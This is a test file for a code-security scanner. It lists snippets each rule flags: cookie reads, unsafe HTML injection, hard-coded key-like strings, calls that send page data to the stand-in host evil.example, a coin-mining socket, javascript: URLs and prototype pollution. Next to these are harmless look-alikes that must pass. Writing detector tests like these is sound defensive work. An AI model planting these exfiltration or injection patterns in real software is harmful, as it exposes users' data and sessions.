/** What each rule finds, how bad it is, and what it leaves alone. */
import assert from "node:assert/strict";
import test from "node:test";

import { scan } from "../../../overskill/bundler/core/scan/scan.mjs";

const rulesIn = (code, file = "src/App.tsx") =>
  scan({ [file]: code }).map(({ rule, severity }) => `${severity} ${rule}`);
const KEY = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc";
const TOKEN = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5";
const role = (name) =>
  [
    "eyJhbGciOiJIUzI1NiJ9",
    Buffer.from(JSON.stringify({ role: name, iss: "supabase" })).toString("base64url"),
    "c2lnbmF0dXJl",
  ].join(".");

const FOUND = [
  ["high cookie", "console.log(document.cookie)"],
  ["high cookie", 'document["coo" + "kie"] = "a=1"'],
  ["high cookie", "const { cookie } = document;"],
  ["high cookie", "const d = window.document; d.cookie"],
  ["high cookie", 'Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document)'],
  ["high cookie", "export const all = () => cookieStore.getAll()"],
  ["high html", "export const f = (el, html) => { el.innerHTML = html; }"],
  ["high html", 'export const f = (el, html) => { el["inner" + "HTML"] = `<b>${html}</b>`; }'],
  ["high html", "export const f = (el, html) => { el.outerHTML += html; }"],
  ["high html", 'export const f = (el, html) => el.insertAdjacentHTML("beforeend", html)'],
  ["high html", "export const f = (html) => document.write(html)"],
  ["high html", "export const f = (range, html) => range.createContextualFragment(html)"],
  ["high html", "export const A = ({ html }) => <p dangerouslySetInnerHTML={{ __html: html }} />"],
  [
    "high html",
    "export const A = ({ html }) => { const inner = { __html: html }; return <p dangerouslySetInnerHTML={inner} />; }",
  ],
  ["high html", "export const A = ({ inner }) => <p dangerouslySetInnerHTML={inner} />"],
  ["high html", "export const A = ({ inner }) => <p {...{ dangerouslySetInnerHTML: inner }} />"],
  ["high html", "export const A = ({ page }) => <iframe srcDoc={page} />"],
  ["high html", "export const f = (el, html) => Object.assign(el, { innerHTML: html })"],
  [
    "high html",
    "const DOMPurify = { sanitize: (x) => x }; export const f = (el, html) => { el.innerHTML = DOMPurify.sanitize(html); }",
  ],
  ["critical secret", `const key = "${KEY}";`],
  ["critical secret", `const key = "${KEY.slice(0, 12)}" + "${KEY.slice(12)}";`],
  ["critical secret", `const key = atob("${Buffer.from(KEY).toString("base64")}");`],
  ["critical secret", `export const A = () => <p title="${TOKEN}">x</p>`],
  ["critical secret", "const k = `-----BEGIN RSA PRIVATE KEY-----\nMIIE`;"],
  ["critical secret", 'const url = "postgres://admin:hunter22@db.example.org/app";'],
  ["critical secret", `const k = "${role("service_role")}";`],
  ["high secret", 'const apiSecret = "q7Zp1xK9vB3nM5sD8fG2hJ4kL6";'],
  ["high secret", 'export const config = { password: "q7Zp1xK9vB3nM5sD8fG2hJ4kL6" };'],
  ["medium secret", `const k = "AIza${"SyB3nM5sD8fG2hJ4kL6q7Zp1xK9vTr5yUi".slice(0, 35).padEnd(35, "Q8")}";`],
  ["medium host", 'fetch("https://evil.example/collect")'],
  ["medium host", 'fetch("//evil.example/collect")'],
  ["medium host", 'fetch("https:\\\\\\\\evil.example/x")'],
  ["medium host", 'fetch("ht" + "tps://evil.example/x?" + document.title)'],
  ["medium host", 'const BASE = "https://evil.example"; const get = (path) => fetch(`${BASE}${path}`); get("/a")'],
  ["medium host", 'fetch(new Request("https://evil.example"))'],
  ["medium host", 'fetch(new URL("/a", "https://evil.example"))'],
  ["medium host", 'import axios from "axios"; axios.post("https://evil.example", {})'],
  ["medium host", 'import axios from "axios"; export const api = axios.create({ baseURL: "https://evil.example" })'],
  ["medium host", 'const x = new XMLHttpRequest(); x.open("GET", "https://evil.example")'],
  ["medium host", 'new WebSocket("wss://evil.example")'],
  ["medium host", 'new EventSource("https://evil.example/events")'],
  ["medium host", 'navigator.sendBeacon("https://evil.example", "x")'],
  ["medium host", 'new Image().src = "https://evil.example/pixel.gif?" + document.title'],
  ["medium host", 'export const A = () => <img src="https://evil.example/a.png" />'],
  ["medium host", 'export const A = () => <form action="https://evil.example/take"><input /></form>'],
  ["medium host", 'export const A = () => <p style={{ backgroundImage: "url(https://evil.example/a.png)" }} />'],
  ["medium host", "export const f = (host) => fetch(`https://${host}/x`)"],
  ["medium host", 'location.href = "https://evil.example/?" + document.title'],
  ["low blank-target", 'export const A = () => <a href="https://example.org" target="_blank">x</a>'],
  ["low blank-target", 'export const A = ({ url }) => <a href={url} target="_blank" rel="nofollow">x</a>'],
  [
    "medium timer",
    'import { useEffect } from "react"; export function A() { useEffect(() => { setInterval(() => {}, 10); }, []); return null; }',
  ],
  [
    "medium timer",
    'import { useEffect } from "react"; export function A() { useEffect(() => { const id = setInterval(() => {}, 10); }, []); return null; }',
  ],
  ["medium timer", "setInterval(() => {}, 10)"],
  ["medium timer", "export function tick() { setTimeout(tick, 10); }"],
  ["medium endless-loop", "export function f() { while (true) { console.log(1); } }"],
  ["medium endless-loop", "export function f() { for (;;) { for (const a of [1]) { break; } } }"],
  ["medium endless-loop", "export function f() { do { [1].map(() => { return 1; }); } while (1); }"],
  ["medium other-window", 'window.parent.document.title = "x"'],
  ["medium other-window", 'top.location = "/x"'],
  ["medium other-window", "const { opener } = window; opener.alert(1)"],
  ["medium post-message", 'window.parent.postMessage({ a: 1 }, "*")'],
  ["medium post-message", 'export const f = (frame) => frame.contentWindow.postMessage(1, { targetOrigin: "*" })'],
  ["high service-worker", 'navigator.serviceWorker.register("/sw.js")'],
  ["high service-worker", 'const { serviceWorker } = navigator; serviceWorker["reg" + "ister"]("/sw.js")'],
  ["medium prototype", "export const f = (o, k, v) => { o.__proto__[k] = v; }"],
  ["medium prototype", 'export const f = (o, v) => { o["__pro" + "to__"].admin = v; }'],
  ["medium prototype", "Object.prototype.admin = true"],
  ["medium prototype", "export const f = (o, k, v) => { o.constructor.prototype[k] = v; }"],
  ["high javascript-url", 'export const A = () => <a href="javascript:alert(1)">x</a>'],
  ["high javascript-url", 'export const A = () => <a href={"java\\nscript:" + "alert(1)"}>x</a>'],
  ["high javascript-url", 'window.open("javascript:alert(1)")'],
  ["high javascript-url", 'location = "JavaScript:alert(1)"'],
  ["high javascript-url", 'export const A = () => <iframe src="data:text/html,<script>alert(1)</script>" />'],
  ["high wasm", 'WebAssembly.instantiateStreaming(fetch("https://evil.example/m.wasm"))'],
  ["high wasm", 'WebAssembly.instantiate(Uint8Array.from(atob("AGFzbQ=="), (c) => c.charCodeAt(0)))'],
  ["high mining", 'new WebSocket("wss://ws1.coinhive.com/proxy")'],
  ["high hidden-access", "export const f = (name) => window[name]"],
  ["high hidden-access", "export const f = (name) => document[name]"],
  ["medium hidden-access", "export const f = (name, value) => { window[name] = value; }"],
];

for (const [expected, code] of FOUND) {
  test(`${expected}: ${code.slice(0, 90)}`, () =>
    assert.ok(rulesIn(code).includes(expected), rulesIn(code).join(", ")));
}

const HARMLESS = {
  "a word in a string": 'export const help = "Never use eval(code) or new Function(code), and not document.cookie.";',
  "a word in a comment": "// eval(x); document.cookie\n/* new Function() */ export const a = 1;",
  "a word on the page": "export const A = () => <p>eval(1) and document.cookie and el.innerHTML = x</p>",
  "a method of the app's own": "class Formula { eval(x) { return x; } }\nexport const f = new Formula().eval(1);",
  "a method of an unknown object": "export const f = (parser, code) => parser.eval(code) + parser.Function(code)",
  "a name that only begins like one":
    "function evaluate(a) { return a; }\nconst eval2 = evaluate;\nexport const b = eval2(1);",
  "a parameter that hides a global": 'export const load = (fetch) => fetch("https://evil.example")',
  "a variable that hides a global":
    "const parent = { children: [] }; parent.children.push(1); export const top = parent.children.length;",
  "a class that hides a global": "export class Function { run() { return new Function(); } }",
  "asking what something is":
    'export const isFunction = (f) => typeof f === "function" || f instanceof Function || typeof eval === "undefined"',
  "the name of a class": "export const f = (error) => error.constructor.name",
  "another of the same class": "export class A { copy() { return new this.constructor(1); } }",
  "comparing constructors": "export const isPlain = (x) => x.constructor === Object",
  "a list by place": 'const tabs = ["a", "b"]; export const f = (place) => tabs[place]',
  "an object by name": "const colors = { red: 1 }; export const f = (name) => colors[name]",
  "storage by name": "export const f = (key) => localStorage[key] ?? localStorage.getItem(key)",
  "a timer with a function": "export const wait = (done) => setTimeout(done, 10)",
  "a timer that is stopped":
    'import { useEffect } from "react"; export function A() { useEffect(() => { const id = setInterval(() => {}, 10); return () => clearInterval(id); }, []); return null; }',
  "a timer kept in a reference":
    'import { useEffect, useRef } from "react"; export function A() { const id = useRef(0); useEffect(() => { id.current = setInterval(() => {}, 10); }, []); const stop = () => clearInterval(id.current); return <b onClick={stop} />; }',
  "a loop that ends":
    "export async function f(next) { while (true) { if (await next()) break; } for (;;) { return; } }",
  "HTML that is fixed":
    'document.body.innerHTML = "<b>Hello</b>"; export const A = () => <p dangerouslySetInnerHTML={{ __html: "&copy;" }} />',
  "HTML that is sanitized":
    'import DOMPurify from "dompurify"; export const A = ({ html }) => <p dangerouslySetInnerHTML={{ __html: DOMPurify.sanitize(html) }} />',
  "HTML that is sanitized before":
    'import DOMPurify from "dompurify"; import { useMemo } from "react"; export const A = ({ html }) => { const clean = useMemo(() => DOMPurify.sanitize(html), [html]); return <p dangerouslySetInnerHTML={{ __html: `<b>${clean}</b>` }} />; }',
  "HTML that is only taken out": 'document.body.innerHTML = ""',
  "an own property called innerHTML":
    "const draft = { innerHTML: '' }; export const f = (text) => { draft.innerHTML = text; }",
  "a placeholder of a key":
    'const key = "sk_live_xxxxxxxxxxxxxxxxxxxxxxxx"; export const apiKey = "your-api-key-goes-here-1234567";',
  "a public key": `export const k = "pk_live_4eC39HqLyjWDarjtT1zdp7dc"; export const anonKey = "${role("anon")}";`,
  "a label for a password":
    'export const passwordHint = "At least 12 characters and 1 digit"; export const f = { password: "Password1 must be longer" };',
  "the app's own address":
    'fetch("/api/items"); fetch(`./data/${Date.now()}.json`); export const A = () => <img src="/logo.svg" />',
  "a known service":
    'fetch("https://api.open-meteo.com/v1/forecast"); export const A = () => <img src="https://images.unsplash.com/photo-1" />',
  "a picture out of data": 'export const A = () => <img src="data:image/png;base64,AAAA" />',
  "a link to another site":
    'export const A = () => <a href="https://example.org" target="_blank" rel="noreferrer">x</a>',
  "a link within the app": 'export const A = () => <a href="/about" target="_blank">x</a>',
  "an import of a page":
    'import { lazy } from "react"; export const P = lazy(() => import("./pages/Home")); export const load = (name) => import(`./pages/${name}.tsx`)',
  "a worker of the app": 'new Worker(new URL("./work.ts", import.meta.url), { type: "module" })',
  "being framed": "export const isFramed = window.parent !== window && window.top !== window.self;",
  "a message to the own origin": "window.parent.postMessage(1, window.location.origin)",
  "a message to a worker": "export const f = (worker) => worker.postMessage({ a: 1 })",
  "what is written into a map": "export const f = (o, key, value) => { o[key] = value; }",
  "objects without a prototype": "export const o = Object.create(null); export const p = Object.assign({}, { a: 1 });",
  "enumerations and namespaces":
    'export enum Color { Red = "red" } export const f = (c: Color) => Color[c as keyof typeof Color];',
  "numbers by window": "export const f = () => window.innerWidth + window.scrollY",
};

for (const [name, code] of Object.entries(HARMLESS)) {
  test(`nothing: ${name}`, () => assert.deepEqual(rulesIn(code), []));
}

test("hosts that server code calls are no finding: the edge keeps to its owner's list", () => {
  const code = 'export default { fetch: () => fetch("https://evil.example") };';
  assert.deepEqual(rulesIn(code, "server/index.ts"), []);
  assert.deepEqual(rulesIn(`${code} eval("1");`, "server/index.ts"), ["critical eval"]);
});
